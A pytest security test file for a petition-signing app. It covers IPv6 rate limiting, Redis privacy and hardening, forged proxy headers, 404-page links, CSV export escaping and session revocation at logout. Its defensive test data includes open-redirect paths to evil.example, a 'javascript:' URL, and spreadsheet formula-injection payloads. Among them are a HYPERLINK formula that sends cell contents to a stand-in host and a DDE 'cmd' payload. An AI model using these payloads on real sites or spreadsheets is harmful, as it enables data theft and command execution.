"""Signer safety, round 2: limits that limit, a Redis that gives nothing away, an error page that links only
into this site, exports that no spreadsheet runs whatever its list separator, and organiser sessions that end
when the organiser signs out.
"""

from __future__ import annotations

import csv
import hmac
import io
import os
import re
import secrets
import signal
import subprocess
import time
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest
import yaml
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from app import organisers
from app.db import Database, utcnow
from app.main import create_app
from app.models import OrganiserSession
from app.ratelimit import client_network, daily_key
from app.settings import ROOT
from tests.seed import add_signatures, bearer, organiser, signature_values
from tests.servers import CAMPAIGN_BIN, server_env
from tests.support import SIGNER, TEST_SECRET, csrf_token, free_port, local_redis, make_settings

SIGN = "/api/v1/campaigns/mamay/signatures"
REDIS_DB = 14  # this suite's own database on the shared test Redis


# --- 1a: one IPv6 /64 is one client ---------------------------------------------------------------------


@pytest.fixture
def limited_app(tmp_path, sqlite_url):
    settings = make_settings(tmp_path, sqlite_url, sign_rate_limit="10/minute")
    db = Database(settings.sqlalchemy_url)
    yield create_app(settings, db=db)
    db.dispose()


def sign_from(app, host: str, n: int) -> int:
    """One sign request from `host` (Starlette's TestClient sets request.client from `client=`). The body has
    its shape but no consent: the limit is counted before validation, so an allowed request answers 422 and
    stores nothing, a limited one 429."""
    with TestClient(app, base_url="http://testserver", client=(host, 40000 + n)) as c:
        return c.post(SIGN, json={**SIGNER, "email": f"v6-{n}@example.org", "consent": False}).status_code


def test_eleven_addresses_of_one_ipv6_64_share_one_sign_budget(limited_app):
    prefix = "2001:db8:5:7"
    codes = [sign_from(limited_app, f"{prefix}:{secrets.randbelow(0xFFFF):x}:{n:x}::{n + 1:x}", n)
             for n in range(11)]
    assert codes[:10] == [422] * 10, codes
    assert codes[10] == 429, "the eleventh address of the same /64 must hit the 10/minute limit"
    assert sign_from(limited_app, "2001:db8:5:8::1", 99) == 422, "the next /64 is another client"


def test_an_ipv4_mapped_address_counts_as_its_ipv4_address(limited_app):
    codes = [sign_from(limited_app, "198.51.100.7" if n % 2 else "::ffff:198.51.100.7", n) for n in range(11)]
    assert codes == [422] * 10 + [429]
    assert client_network("::ffff:198.51.100.7") == "198.51.100.7"
    assert client_network("2001:db8::1%eth0") == client_network("2001:db8::ffff") == "2001:db8::/64"


# --- 1b: several workers need a shared store ------------------------------------------------------------


def test_serve_with_two_workers_and_no_redis_refuses_to_start(tmp_path):
    env = server_env(var_dir=tmp_path / "var", database_url=f"sqlite:///{tmp_path / 'campaign.db'}")
    proc = subprocess.Popen([str(CAMPAIGN_BIN), "serve", "--port", str(free_port()), "--workers", "2"], env=env,
                            cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        out, _ = proc.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(10)
        pytest.fail("`campaign serve --workers 2` without CAMPAIGN_REDIS_URL started serving")
    text = out.decode()
    assert proc.returncode == 2, text
    assert "CAMPAIGN_REDIS_URL" in text and "--workers 1" in text, text


# --- 2: what Redis holds cannot be turned back into addresses -------------------------------------------


def redis_db():
    return local_redis(REDIS_DB)[1]


@pytest.fixture
def redis_empty():
    r = redis_db()
    r.flushdb()
    yield r
    r.flushdb()


def everything_in(r) -> tuple[list[bytes], list[bytes]]:
    """Every key and every value (strings, list items, set and sorted-set members, hash fields and values)."""
    keys, values = [], []
    for key in r.scan_iter(count=1000):
        keys.append(key)
        kind = r.type(key)
        if kind == b"string":
            values.append(r.get(key))
        elif kind == b"list":
            values += r.lrange(key, 0, -1)
        elif kind == b"set":
            values += list(r.smembers(key))
        elif kind == b"zset":
            values += [m for m, _ in r.zrange(key, 0, -1, withscores=True)]
        elif kind == b"hash":
            for field, value in r.hgetall(key).items():
                values += [field, value]
    return keys, values


def test_redis_holds_no_hashing_key_and_no_address(tmp_path, sqlite_url, redis_empty):
    marker = f"203.0.113.{secrets.randbelow(250) + 2}"
    settings = make_settings(tmp_path, sqlite_url, sign_rate_limit="3/minute", login_rate_limit="2/minute",
                             redis_url=f"redis://127.0.0.1:6379/{REDIS_DB}")
    db = Database(settings.sqlalchemy_url)
    try:
        with TestClient(create_app(settings, db=db), base_url="http://testserver", client=(marker, 5555)) as c:
            codes = [c.post(SIGN, json={**SIGNER, "email": f"r{i}@example.org", "consent": True}).status_code
                     for i in range(4)]
            assert codes == [202, 202, 202, 429]
            token = csrf_token(c, "/organiser/login")
            for _ in range(3):
                c.post("/organiser/login", data={"token": "wrong", "csrf_token": token}, follow_redirects=False)
    finally:
        db.dispose()

    keys, values = everything_in(redis_empty)
    assert keys, "the limits were kept in Redis, so the checks below mean something"
    blob = b"\n".join(keys + values)
    assert marker.encode() not in blob and marker.replace(".", "").encode() not in blob
    assert not [k for k in keys if b"key" in k.lower()], keys  # no key material stored under any name
    assert not [v for v in values if len(v) == 32], "a 32-byte value: key material?"
    # The hashes are made under a key derived from CAMPAIGN_SECRET_KEY, which Redis does not hold:
    today = datetime.now(UTC).strftime("%Y-%m-%d")
    expected = hmac.new(daily_key(TEST_SECRET, today), marker.encode(), "sha256").hexdigest()[:32].encode()
    assert expected in blob, "the limiter's key for the marked address is where we think it is"
    # ... and nothing Redis holds reproduces them.
    candidates = set(values) | {part for k in keys for part in re.split(rb"[/:]", k)}
    for candidate in candidates:
        guess = hmac.new(candidate, marker.encode(), "sha256").hexdigest()[:32].encode()
        assert guess not in blob, f"Redis holds the key that hashes client addresses: {candidate!r}"


def test_redis_holds_counts_not_the_time_of_each_request(tmp_path, sqlite_url, redis_empty):
    """A moving window kept each request's time: with the secret key seized, a time to the microsecond could be
    matched to a signature's. Fixed windows keep one small count per client and window."""
    settings = make_settings(tmp_path, sqlite_url, sign_rate_limit="10/minute",
                             redis_url=f"redis://127.0.0.1:6379/{REDIS_DB}")
    db = Database(settings.sqlalchemy_url)
    try:
        with TestClient(create_app(settings, db=db), base_url="http://testserver", client=("203.0.113.9", 1)) as c:
            for i in range(3):
                assert c.post(SIGN, json={**SIGNER, "email": f"t{i}@example.org", "consent": True}).status_code == 202
    finally:
        db.dispose()
    keys, values = everything_in(redis_empty)
    assert keys and {redis_empty.type(k) for k in keys} == {b"string"}
    assert sorted(values) == [b"3"]  # one counter, no timestamps


def test_a_forged_x_forwarded_for_is_not_believed_unless_its_proxy_is_trusted(tmp_path, sqlite_url):
    """Any process on the host (an onion service, a TCP proxy) reaches `campaign serve` from 127.0.0.1: a forged
    header must not give it a fresh budget per request."""
    env = server_env(var_dir=tmp_path / "var", database_url=sqlite_url)
    env["CAMPAIGN_SIGN_RATE_LIMIT"] = "2/minute"
    port = free_port()
    proc = subprocess.Popen([str(CAMPAIGN_BIN), "serve", "--port", str(port)], env=env, cwd=ROOT,
                            stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        import httpx

        url = f"http://127.0.0.1:{port}"
        for _ in range(300):
            try:
                if httpx.get(f"{url}/healthz", timeout=1).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            time.sleep(0.1)
        codes = [httpx.post(f"{url}{SIGN}", json={**SIGNER, "email": f"x{i}@example.org", "consent": True},
                            headers={"X-Forwarded-For": f"198.51.100.{i}"}, timeout=10).status_code
                 for i in range(3)]
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        proc.wait(20)
    assert codes == [202, 202, 429]


def test_compose_runs_redis_with_a_password_on_an_internal_network_only():
    compose = yaml.safe_load((ROOT / "deploy" / "compose.yaml").read_text())
    redis = compose["services"]["redis"]
    assert "ports" not in redis and "expose" not in redis, "Redis must not be published"
    nets = redis.get("networks")
    assert nets, "Redis is on named networks only"
    for net in nets:
        assert compose["networks"][net].get("internal") is True, f"{net} must be internal"
    assert "requirepass" in " ".join(map(str, redis["command"])), "Redis requires a password"
    assert "REDIS_PASSWORD" in str(redis.get("environment", {}))
    for name, service in compose["services"].items():
        for value in (service.get("environment") or {}).values() if isinstance(service.get("environment"), dict) \
                else []:
            if str(value).startswith("redis://"):
                assert ":${REDIS_PASSWORD}@" in value, f"{name} connects to Redis without the password"
    anchor = compose["x-campaign"]["environment"]["CAMPAIGN_REDIS_URL"]
    assert anchor.startswith("redis://:${REDIS_PASSWORD}@redis:"), anchor
    assert "REDIS_PASSWORD=" in (ROOT / "deploy" / "campaign.env.example").read_text()


def test_systemd_redis_listens_on_loopback_only_with_a_password():
    conf = (ROOT / "deploy" / "redis.conf").read_text()
    directives = {line.split()[0]: line.split()[1:] for line in conf.splitlines()
                  if line.strip() and not line.lstrip().startswith("#")}
    assert directives["bind"] and all(a in ("127.0.0.1", "-::1", "::1") for a in directives["bind"])
    assert directives["protected-mode"] == ["yes"]
    assert "include" in directives, "requirepass comes from a root-only file included here"
    unit = (ROOT / "deploy" / "systemd" / "campaign-redis.service").read_text()
    assert "redis.conf" in unit
    env = (ROOT / "deploy" / "campaign.env.example").read_text()
    assert re.search(r"^#? ?CAMPAIGN_REDIS_URL=redis://:[^@\s]+@127\.0\.0\.1:6379/0$", env, re.M), env


# --- 4a: the error page links only into this site ---------------------------------------------------------


@pytest.mark.parametrize("path", ["//evil.example/x", "/%2F%2Fevil.example", "/%2F%2Fevil.example/x%3Fa",
                                  "/%5C%5Cevil.example", "/%09/evil.example", "/javascript:alert(1)//x"])
def test_the_404_page_links_only_to_paths_of_this_site(client, path):
    answer = client.get(f"http://testserver{path}?lang=ru")
    assert answer.status_code == 404
    hrefs = re.findall(r'href="([^"]*)"', answer.text)
    assert hrefs
    for href in hrefs:
        parts = urlsplit(href.replace("&amp;", "&"))
        assert href.startswith("/") and not href.startswith(("//", "/\\")), href
        assert not parts.scheme and not parts.netloc, href
        assert not re.search(r"[\s\\]", href), href


# --- 4b: exports stay inert whatever the list separator -------------------------------------------------

SEPARATOR_TRICKS = [
    'Anna;=HYPERLINK("http://evil.example/?d="&A1;"Click")',
    "Bob;+1+1",
    "Cem;-2;@SUM(A1:A9)",
    'Dana;"=1+1"',
    "Emil\t=1+1",
    "Fay,=1+1",
    'Gul;""=1+1',
    "Hana;\uff1dFULLWIDTH()",
]


def test_csv_export_has_no_formula_cell_when_read_with_comma_semicolon_or_tab(client, svc):
    token = organiser(svc)
    now = utcnow()
    with svc.db.write.begin() as s:
        add_signatures(s, [
            signature_values(svc.keyring, name=name, email=f"sep{i}@example.org", city="Almaty;-5",
                             message="ok;=cmd|' /C calc'!A0", created_at=now)
            for i, name in enumerate(SEPARATOR_TRICKS)
        ])
    answers = [client.get("/api/v1/campaigns/mamay/signatures?format=csv", headers=bearer(token)),
               client.get("/api/v1/campaigns/mamay/counts?by=country&format=csv", headers=bearer(token))]
    for answer in answers:
        assert answer.status_code == 200
        text = answer.text.removeprefix("\ufeff")
        for delimiter in (",", ";", "\t"):
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\uff1d")), (delimiter, cell, row)
    rows = list(csv.DictReader(io.StringIO(answers[0].text.removeprefix("\ufeff"), newline="")))
    assert len(rows) == len(SEPARATOR_TRICKS)
    assert {r["name"] for r in rows} >= {"Anna;'=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Click\")", "Fay,'=1+1"}
    assert {r["city"] for r in rows} == {"Almaty;'-5"}


# --- 4c: signing out ends the session on the server -----------------------------------------------------


def test_a_copied_organiser_cookie_is_refused_after_logout(client, svc):
    token = organiser(svc, "olga")
    login = csrf_token(client, "/organiser/login")
    assert client.post("/organiser/login", data={"token": token, "csrf_token": login, "next": "/organiser"},
                       follow_redirects=False).status_code == 303
    copied = client.cookies.get(organisers.SESSION_COOKIE)
    thief = TestClient(client.app, base_url="http://testserver", cookies={organisers.SESSION_COOKIE: copied})
    assert thief.get("/organiser", follow_redirects=False).status_code == 200  # the copy works while signed in
    logout = csrf_token(client, "/organiser")
    assert client.post("/organiser/logout", data={"csrf_token": logout}, follow_redirects=False).status_code == 303
    dashboard = thief.get("/organiser", follow_redirects=False)
    assert dashboard.status_code == 303 and dashboard.headers["location"].startswith("/organiser/login")
    assert thief.get("/api/v1/campaigns/mamay/signatures", follow_redirects=False).status_code == 401
    assert thief.get("/api/v1/campaigns/mamay/counts", follow_redirects=False).status_code == 401
    # Signing in again makes a new session; the old copy stays dead.
    assert client.post("/organiser/login", data={"token": token, "csrf_token": login, "next": "/organiser"},
                       follow_redirects=False).status_code == 303
    assert client.get("/organiser", follow_redirects=False).status_code == 200
    assert thief.get("/organiser", follow_redirects=False).status_code == 303


def test_revoking_an_organiser_ends_their_session_rows(client, svc):
    token = organiser(svc, "pavel")
    login = csrf_token(client, "/organiser/login")
    client.post("/organiser/login", data={"token": token, "csrf_token": login}, follow_redirects=False)
    with svc.db.read() as s:
        assert s.scalar(select(func.count()).select_from(OrganiserSession)) == 1
    with svc.db.write.begin() as s:
        organisers.revoke(s, name_or_id="pavel", now=utcnow())
    with svc.db.read() as s:
        assert s.scalar(select(func.count()).select_from(OrganiserSession)) == 0
    assert client.get("/organiser", follow_redirects=False).status_code == 303

